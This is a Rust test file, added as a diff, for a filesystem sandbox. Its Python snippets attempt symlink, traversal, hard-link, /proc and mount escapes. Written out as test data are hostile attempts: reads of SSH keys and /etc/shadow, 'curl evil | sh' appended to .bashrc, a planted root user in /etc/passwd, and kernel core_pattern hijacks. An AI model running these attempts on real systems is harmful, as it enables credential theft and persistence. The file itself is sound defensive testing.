@@ -1,0 +1,545 @@
+// The cases of the `escapes_fs` suites (included by tests/escapes_fs.rs, with the
+// server's own namespaces, and tests/escapes_fs_no_ns.rs, without).
+
+
+use common::{SECRET, content};
+
+#[test]
+fn dotdot_out_of_a_root_is_refused() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('inside', lambda: read('{r}/inside'))\n\
+             check('dotdot', lambda: read('{r}/../outside/secret'))\n\
+             check('dotdot_deep', lambda: read('{r}/../../../../{o}/secret'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect("inside", "OK")
+    .refused("dotdot")
+    .refused("dotdot_deep");
+}
+
+#[test]
+fn sibling_with_the_root_as_prefix_is_refused() {
+    let t = tree();
+    let evil = t.s("r_evil");
+    t.py(
+        &[],
+        &format!(
+            "check('read', lambda: read('{evil}/secret'))\n\
+             check('create', lambda: write('{evil}/new'))\n\
+             check('list', lambda: os.listdir('{evil}'))"
+        ),
+    )
+    .refused("read")
+    .refused("create")
+    .refused("list");
+    assert!(!t.p("r_evil/new").exists());
+}
+
+#[test]
+fn symlink_to_a_file_outside_cannot_be_read() {
+    let t = tree();
+    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
+    t.py(
+        &[],
+        &format!("check('read', lambda: read('{r}/link'))", r = t.r.display()),
+    )
+    .refused("read");
+}
+
+#[test]
+fn symlink_to_a_file_outside_cannot_be_written() {
+    let t = tree();
+    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('append', lambda: write('{r}/link', 'pwned', 'a'))\n\
+             check('truncate', lambda: os.truncate('{r}/link', 0))",
+            r = t.r.display()
+        ),
+    )
+    .refused("append")
+    .refused("truncate");
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+}
+
+#[test]
+fn symlink_to_a_directory_outside_cannot_be_listed_or_read() {
+    let t = tree();
+    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('list', lambda: os.listdir('{r}/dlink'))\n\
+             check('read', lambda: read('{r}/dlink/secret'))",
+            r = t.r.display()
+        ),
+    )
+    .refused("list")
+    .refused("read");
+}
+
+#[test]
+fn symlink_to_a_directory_outside_cannot_be_created_through() {
+    let t = tree();
+    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('create', lambda: write('{r}/dlink/planted'))\n\
+             check('mkdir', lambda: os.mkdir('{r}/dlink/d'))",
+            r = t.r.display()
+        ),
+    )
+    .refused("create")
+    .refused("mkdir");
+    assert!(!t.outside.join("planted").exists());
+    assert!(!t.outside.join("d").exists());
+}
+
+#[test]
+fn dangling_symlink_pointing_outside_cannot_be_written_through() {
+    let t = tree();
+    let target = t.outside.join("created-through-dangling-link");
+    std::os::unix::fs::symlink(&target, t.r.join("dangling")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('create', lambda: write('{r}/dangling', 'pwned'))",
+            r = t.r.display()
+        ),
+    )
+    .refused("create");
+    assert!(!target.exists());
+}
+
+#[test]
+fn symlink_made_at_run_time_pointing_outside_gives_nothing() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('symlink', lambda: os.symlink('{o}/secret', '{r}/made'))\n\
+             check('read', lambda: read('{r}/made'))\n\
+             check('write', lambda: write('{r}/made', 'pwned', 'a'))\n\
+             check('dirlink', lambda: os.symlink('{o}', '{r}/madedir'))\n\
+             check('dirread', lambda: os.listdir('{r}/madedir'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    // Making the link itself is allowed: it is a file inside the root.
+    .expect("symlink", "OK")
+    .refused("read")
+    .refused("write")
+    .expect("dirlink", "OK")
+    .refused("dirread");
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+}
+
+#[test]
+fn rename_out_of_a_root_is_refused() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('rename', lambda: os.rename('{r}/inside', '{o}/moved'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .refused("rename");
+    assert!(t.r.join("inside").exists());
+    assert!(!t.outside.join("moved").exists());
+}
+
+#[test]
+fn rename_into_a_root_is_refused() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('rename', lambda: os.rename('{o}/secret', '{r}/stolen'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .refused("rename");
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+    assert!(!t.r.join("stolen").exists());
+}
+
+#[test]
+fn rename_of_a_directory_out_of_a_root_is_refused() {
+    let t = tree();
+    std::fs::create_dir(t.r.join("sub")).unwrap();
+    t.py(
+        &[],
+        &format!(
+            "check('rename', lambda: os.rename('{r}/sub', '{o}/sub'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .refused("rename");
+    assert!(t.r.join("sub").is_dir());
+}
+
+#[test]
+fn hard_link_out_of_a_root_is_refused() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('link', lambda: os.link('{r}/inside', '{o}/linked'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .refused("link");
+    assert!(!t.outside.join("linked").exists());
+}
+
+#[test]
+fn hard_link_of_an_outside_file_into_a_root_is_refused() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('link', lambda: os.link('{o}/secret', '{r}/stolen'))\n\
+             check('read', lambda: read('{r}/stolen'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .refused("link")
+    .expect("read", "ENOENT");
+}
+
+#[test]
+fn read_only_root_refuses_creating_files() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('read', lambda: read('{ro}/file'))\n\
+             check('create', lambda: write('{ro}/new'))\n\
+             check('fifo', lambda: os.mkfifo('{ro}/fifo'))\n\
+             check('symlink', lambda: os.symlink('/', '{ro}/l'))",
+            ro = t.ro.display()
+        ),
+    )
+    .expect("read", "OK")
+    .refused("create")
+    .refused("fifo")
+    .refused("symlink");
+    assert!(!t.ro.join("new").exists());
+}
+
+#[test]
+fn read_only_root_refuses_writing_existing_files() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('rplus', lambda: open('{ro}/file', 'r+'))\n\
+             check('append', lambda: write('{ro}/file', 'x', 'a'))",
+            ro = t.ro.display()
+        ),
+    )
+    .refused("rplus")
+    .refused("append");
+    assert_eq!(content(&t.ro.join("file")), "read-only content");
+}
+
+#[test]
+fn read_only_root_refuses_truncation() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('truncate', lambda: os.truncate('{ro}/file', 0))\n\
+             check('o_trunc', lambda: os.open('{ro}/file', os.O_RDONLY | os.O_TRUNC))",
+            ro = t.ro.display()
+        ),
+    )
+    .refused("truncate")
+    .refused("o_trunc");
+    assert_eq!(content(&t.ro.join("file")), "read-only content");
+}
+
+#[test]
+fn read_only_root_refuses_unlink() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('unlink', lambda: os.unlink('{ro}/file'))",
+            ro = t.ro.display()
+        ),
+    )
+    .refused("unlink");
+    assert!(t.ro.join("file").exists());
+}
+
+#[test]
+fn read_only_root_refuses_mkdir_and_rename() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('mkdir', lambda: os.mkdir('{ro}/d'))\n\
+             check('rename', lambda: os.rename('{ro}/file', '{ro}/renamed'))",
+            ro = t.ro.display()
+        ),
+    )
+    .refused("mkdir")
+    .refused("rename");
+    assert!(t.ro.join("file").exists());
+}
+
+#[test]
+fn read_write_root_allows_everything_a_server_needs() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('create', lambda: write('{r}/a', 'hello'))\n\
+             check('read', lambda: read('{r}/a'))\n\
+             check('append', lambda: write('{r}/a', '!', 'a'))\n\
+             check('truncate', lambda: os.truncate('{r}/a', 1))\n\
+             check('mkdir', lambda: os.makedirs('{r}/d/e'))\n\
+             check('rename', lambda: os.rename('{r}/a', '{r}/d/e/b'))\n\
+             check('link', lambda: os.link('{r}/d/e/b', '{r}/c'))\n\
+             check('symlink', lambda: os.symlink('d/e/b', '{r}/s'))\n\
+             check('via_symlink', lambda: read('{r}/s'))\n\
+             check('fifo', lambda: os.mkfifo('{r}/fifo'))\n\
+             check('chmod', lambda: os.chmod('{r}/c', 0o640))\n\
+             check('unlink', lambda: os.unlink('{r}/c'))\n\
+             check('rmdir', lambda: (os.unlink('{r}/d/e/b'), os.rmdir('{r}/d/e')))\n\
+             check('list', lambda: os.listdir('{r}'))",
+            r = t.r.display()
+        ),
+    )
+    .success()
+    .expect("create", "OK")
+    .expect("read", "OK")
+    .expect("append", "OK")
+    .expect("truncate", "OK")
+    .expect("mkdir", "OK")
+    .expect("rename", "OK")
+    .expect("link", "OK")
+    .expect("symlink", "OK")
+    .expect("via_symlink", "OK")
+    .expect("fifo", "OK")
+    .expect("chmod", "OK")
+    .expect("unlink", "OK")
+    .expect("rmdir", "OK")
+    .expect("list", "OK");
+}
+
+#[test]
+fn home_directory_secrets_are_not_readable() {
+    let t = tree();
+    t.py(
+        &[],
+        "home = os.environ['HOME']\n\
+         check('ssh_key', lambda: read(home + '/.ssh/id_rsa'))\n\
+         check('ssh_dir', lambda: os.listdir(home + '/.ssh'))\n\
+         check('bashrc', lambda: read(home + '/.bashrc'))\n\
+         check('home', lambda: os.listdir(home))\n\
+         check('tilde', lambda: read(os.path.expanduser('~/.ssh/id_rsa')))",
+    )
+    .refused("ssh_key")
+    .refused("ssh_dir")
+    .refused("bashrc")
+    .refused("home")
+    .refused("tilde");
+}
+
+#[test]
+fn home_directory_cannot_be_written() {
+    let t = tree();
+    t.py(
+        &[],
+        "home = os.environ['HOME']\n\
+         check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
+         check('plant', lambda: write(home + '/.profile', 'x'))\n\
+         check('authorized_keys', lambda: write(home + '/.ssh/authorized_keys', 'ssh-rsa AAA'))",
+    )
+    .refused("bashrc")
+    .refused("plant")
+    .refused("authorized_keys");
+    assert_eq!(content(&t.home.join(".bashrc")), SECRET);
+    assert!(!t.home.join(".profile").exists());
+}
+
+#[test]
+fn etc_cannot_be_written_and_shadow_not_read() {
+    let t = tree();
+    t.py(
+        &[],
+        "check('create', lambda: write('/etc/rootfence-escape-test'))\n\
+         check('passwd', lambda: write('/etc/passwd', 'evil::0:0::/:/bin/sh\\n', 'a'))\n\
+         check('read_passwd', lambda: read('/etc/passwd'))\n\
+         check('shadow', lambda: read('/etc/shadow'))\n\
+         check('hostname', lambda: read('/etc/hostname'))",
+    )
+    .refused("create")
+    .refused("passwd")
+    // /etc/passwd is a runtime file (user names); it is read-only.
+    .expect("read_passwd", "OK")
+    .refused("shadow")
+    .refused("hostname");
+    assert!(!std::path::Path::new("/etc/rootfence-escape-test").exists());
+}
+
+#[test]
+fn usr_cannot_be_written() {
+    let t = tree();
+    t.py(
+        &[],
+        "check('create', lambda: write('/usr/rootfence-escape-test'))\n\
+         check('bin', lambda: write('/usr/local/bin/rootfence-escape-test'))\n\
+         check('python', lambda: open('/usr/bin/env', 'r+b'))\n\
+         check('unlink', lambda: os.unlink('/usr/bin/true'))",
+    )
+    .refused("create")
+    .refused("bin")
+    .refused("python")
+    .refused("unlink");
+    assert!(!std::path::Path::new("/usr/rootfence-escape-test").exists());
+}
+
+#[test]
+fn proc_self_root_does_not_reach_outside() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('outside', lambda: read('/proc/self/root{o}/secret'))\n\
+             check('home', lambda: read('/proc/self/root' + os.environ['HOME'] + '/.ssh/id_rsa'))\n\
+             check('inside', lambda: read('/proc/self/root{r}/inside'))\n\
+             check('own_status', lambda: read('/proc/self/status'))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .refused("outside")
+    .refused("home")
+    .expect("inside", "OK")
+    .expect("own_status", "OK");
+}
+
+#[test]
+fn setuid_chmod_is_refused_everywhere() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "check('suid_outside', lambda: os.chmod('{o}/secret', 0o4755))\n\
+             check('sgid_inside', lambda: os.chmod('{r}/inside', 0o2755))\n\
+             check('world_writable', lambda: os.chmod('{o}/secret', 0o666))\n\
+             check('plain_inside', lambda: os.chmod('{r}/inside', 0o755))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    .expect("suid_outside", "EPERM")
+    .expect("sgid_inside", "EPERM")
+    .expect("world_writable", "EPERM")
+    .expect("plain_inside", "OK");
+    use std::os::unix::fs::PermissionsExt;
+    let mode = std::fs::metadata(t.outside.join("secret"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o6002, 0);
+}
+
+#[test]
+fn device_nodes_cannot_be_made_in_a_root() {
+    let t = tree();
+    // A block device for the first disk would give the whole disk.
+    t.py(
+        &[],
+        &format!(
+            "check('block', lambda: os.mknod('{r}/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)))\n\
+             check('char', lambda: os.mknod('{r}/mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))",
+            r = t.r.display()
+        ),
+    )
+    .refused("block")
+    .refused("char");
+}
+
+#[test]
+fn device_files_are_closed() {
+    let t = tree();
+    t.py(
+        &[],
+        "check('kmsg', lambda: open('/dev/kmsg', 'rb'))\n\
+         check('mem', lambda: open('/dev/mem', 'rb'))\n\
+         check('vda', lambda: open('/dev/vda', 'rb'))\n\
+         check('tty1', lambda: open('/dev/tty1', 'wb'))\n\
+         check('null', lambda: write('/dev/null', 'x'))\n\
+         check('urandom', lambda: open('/dev/urandom', 'rb').read(8))",
+    )
+    .refused("kmsg")
+    .refused("mem")
+    .refused("vda")
+    .refused("tty1")
+    .expect("null", "OK")
+    .expect("urandom", "OK");
+}
+
+#[test]
+fn kernel_knobs_cannot_be_written() {
+    let t = tree();
+    t.py(
+        &[],
+        "check('sysrq', lambda: write('/proc/sysrq-trigger', 'h'))\n\
+         check('core_pattern', lambda: write('/proc/sys/kernel/core_pattern', '|/tmp/x'))\n\
+         check('sysctl_read', lambda: read('/proc/sys/kernel/hostname'))\n\
+         check('sys_write', lambda: write('/sys/kernel/mm/transparent_hugepage/enabled', 'never'))\n\
+         check('uevent_helper', lambda: write('/sys/kernel/uevent_helper', '/tmp/x'))",
+    )
+    .refused("sysrq")
+    .refused("core_pattern")
+    .refused("sysctl_read")
+    .refused("sys_write")
+    .refused("uevent_helper");
+}
+
+#[test]
+fn a_new_user_namespace_cannot_mount_over_the_sandbox() {
+    let t = tree();
+    t.py(
+        &[],
+        &format!(
+            "import ctypes\n\
+             libc = ctypes.CDLL(None, use_errno=True)\n\
+             def sc(r):\n\
+             \x20   if r != 0:\n\
+             \x20       raise OSError(ctypes.get_errno(), 'call')\n\
+             check('unshare', lambda: sc(libc.unshare(0x10000000 | 0x00020000)))\n\
+             check('mount_tmpfs', lambda: sc(libc.mount(b'none', b'{o}', b'tmpfs', 0, None)))\n\
+             check('bind_root', lambda: sc(libc.mount(b'/', b'{r}', None, 4096 | 16384, None)))\n\
+             check('chroot_read', lambda: (sc(libc.chroot(b'{r}')), read('/../outside/secret')))",
+            r = t.r.display(),
+            o = t.outside.display()
+        ),
+    )
+    // Whether the user namespace is granted depends on the kernel's
+    // settings; what matters is that nothing can be mounted.
+    .expect_any("unshare", &["OK", "EPERM", "EINVAL"])
+    .refused("mount_tmpfs")
+    .refused("bind_root")
+    .refused("chroot_read");
+    assert_eq!(content(&t.outside.join("secret")), SECRET);
+}
